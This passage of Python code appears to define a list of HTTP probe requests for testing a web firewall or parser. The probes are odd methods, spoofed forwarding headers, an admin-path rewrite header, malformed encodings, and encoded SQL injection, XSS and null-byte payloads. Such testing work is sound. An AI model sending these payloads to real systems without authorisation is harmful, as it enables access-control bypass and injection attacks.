    "protocol": {"requests": [("method", m) for m in ("TRACE", "TRACK", "CONNECT", "DEBUG", "JEFF")] + [("header", *pair) for pair in (("Transfer-Encoding", "xchunked"), ("Transfer-Encoding", "chunked, identity, x"), ("Content-Length", "-1"), ("Content-Type", "application/x-www-form-urlencoded; charset=ibm500"), ("Content-Type", "text/html; charset=utf-7"), ("X-Rewrite-URL", "/admin"), ("Range", "bytes=" + ",".join(f"{i}-{i}" for i in range(30))), ("Host", "a.example/x"), ("Host", "a' or 1=1"), ("Content-Type", "application/json; charset=utf-8; charset=ibm037"), ("X-HTTP-Method-Override", "TRACE"), ("Connection", "close, X-Real-IP"), ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "localhost"), ("X-Client-IP", "e.example"))] + [("get", uri) for uri in ("/?q=a%00b", "/a.php%00.jpg", "/?q=%u0027%20or%201=1", "/?q=%c0%a7%20or%201=1", "/?q=%252527", "/?q=%uff1cscript%uff1e", "/%e0%80%af%e0%80%ae", "/?a=1/*&a=*/union/*&a=*/select", "/?q=%07%08")] + [("post", "/", JSON, "{\"a\":"), ("post", "/", JSON, "{'a':1}"), ("post", "/", "application/xml", "<a><b></a>"), ("post", "/", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"")]},
}
